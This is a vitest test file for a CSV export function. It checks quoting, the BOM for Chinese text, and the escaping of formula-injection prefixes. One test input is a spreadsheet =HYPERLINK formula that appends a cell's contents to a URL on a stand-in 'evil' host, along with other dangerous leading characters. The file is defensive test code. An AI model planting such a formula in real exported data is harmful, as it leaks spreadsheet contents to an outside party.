import { describe, expect, it } from 'vitest';
import { toCsv } from './downloads.js';

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks, and starts with a BOM so spreadsheets read Chinese', () => {
    expect(
      toCsv(
        ['名称', 'note'],
        [
          ['龙溪街道', 'a,b'],
          ['x', 'say "hi"\nbye'],
        ],
      ),
    ).toBe('\uFEFF名称,note\r\n龙溪街道,"a,b"\r\nx,"say ""hi""\nbye"\r\n');
  });
});

describe('planner CSV export writes formulas unescaped (issue 15)', () => {
  it('neutralises =HYPERLINK, +, -, @, tab and CR prefixes as the server does, and keeps numbers', () => {
    const csv = toCsv(
      ['名称', 'n'],
      [
        ['=HYPERLINK("http://evil/?x"&A1,"点我")', 1],
        ['+1+2', -3],
        ['-2+3', 0],
        ['@SUM(A1)', 2],
        ['\tx', 3],
        ['\rcmd', 4],
      ],
    );
    expect(csv.split('\r\n').slice(1, 7)).toEqual([
      `"'=HYPERLINK(""http://evil/?x""&A1,""点我"")",1`,
      `"'+1+2",-3`,
      `"'-2+3",0`,
      `"'@SUM(A1)",2`,
      `"'\tx",3`,
      `"'\rcmd",4`,
    ]);
  });
});
